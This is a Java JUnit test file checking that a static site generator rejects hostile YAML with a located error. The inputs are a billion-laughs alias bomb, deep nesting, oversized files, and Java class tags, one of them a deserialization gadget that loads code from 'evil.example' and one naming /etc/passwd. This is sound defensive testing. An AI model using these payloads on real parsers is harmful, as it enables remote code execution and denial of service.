package org.factsite.hostile;

import static org.factsite.hostile.HostileSite.ARTICLE;
import static org.factsite.hostile.HostileSite.FIGURES;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.nio.file.Path;
import java.time.Duration;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile YAML fails fast with a located error: alias bombs, deep nesting, huge files and tags
 * naming Java classes. The time limit here only guards against a hang; docs/safety.md has the
 * measured times.
 */
class YamlHostileTest {
  private static final Duration HANG_GUARD = Duration.ofSeconds(10);

  @TempDir Path dir;

  static String billionLaughs() {
    StringBuilder b = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    char prev = 'a';
    for (char c = 'b'; c <= 'j'; c++) {
      b.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        b.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      b.append("]\n");
      prev = c;
    }
    return b.toString();
  }

  static Stream<Case> cases() {
    return Stream.of(
        Case.of(
            "billion laughs",
            "data/figures.yaml",
            billionLaughs(),
            "data/figures.yaml:1:4: YAML anchors and aliases (& and *) are not allowed"),
        Case.of(
            "a single alias",
            "data/figures.yaml",
            FIGURES
                .replace("title: The Report", "title: &t The Report")
                .replace("publisher: A Publisher", "publisher: *t"),
            "data/figures.yaml:4:16: YAML anchors and aliases (& and *) are not allowed"),
        Case.of(
            "10,000-deep flow nesting",
            "data/figures.yaml",
            "x: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n",
            "data/figures.yaml:1:36: the YAML nests too deeply (limit 32 levels)"),
        Case.of(
            "200-deep block nesting",
            "data/figures.yaml",
            deepBlock(200),
            "data/figures.yaml:34:67: the YAML nests too deeply (limit 32 levels)"),
        Case.of(
            "a 10 MB data file",
            "data/big.yaml",
            "x: \"" + "a".repeat(10_500_000) + "\"\n",
            "data/big.yaml:1:1: file is too large (10500006 bytes; the limit is 10485760)"),
        Case.of(
            "a 2 MB data file",
            "data/big.yaml",
            "x: \"" + "a".repeat(2_000_000) + "\"\n",
            "data/big.yaml:1:1: file is too large (2000006 characters; the limit is 1000000)"),
        Case.of(
            "a Java class tag",
            "data/figures.yaml",
            "statistics: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
            "data/figures.yaml:1:13: YAML tags (!!something) are not allowed"),
        Case.of(
            "a local tag",
            "data/figures.yaml",
            FIGURES.replace("value: 1220", "value: !number 1220"),
            "data/figures.yaml:7:12: YAML tags (!!something) are not allowed"),
        Case.of(
            "a tag in front matter",
            "content/about.md",
            ARTICLE.replace("title: About", "title: !!java.io.File /etc/passwd"),
            "content/about.md:2:8: YAML tags (!!something) are not allowed"),
        Case.of(
            "an alias in site.yaml",
            "site.yaml",
            "title: &t Test\ndescription: *t\n",
            "site.yaml:2:14: YAML anchors and aliases (& and *) are not allowed"));
  }

  private static String deepBlock(int depth) {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      b.append("  ".repeat(i)).append("k").append(i).append(":\n");
    }
    return b.toString();
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void hostileYamlFailsFastWithALocatedError(Case c) {
    HostileSite s = HostileSite.built(dir);
    s.edit(c.edits());
    assertTimeoutPreemptively(HANG_GUARD, () -> s.assertBuildFails(c.exitCode(), c.firstLine()));
  }

  @Test
  void duplicateKeysAreCaughtInsideSequences() {
    HostileSite s = HostileSite.built(dir);
    s.write(
        "data/figures.yaml",
        FIGURES.replace(
            "    geography: England and Wales\n    sources",
            "    geography: England and Wales\n    geography: Wales\n    sources"));
    s.assertBuildFails(1, "data/figures.yaml:12:5: the key 'geography' appears twice");
  }
}
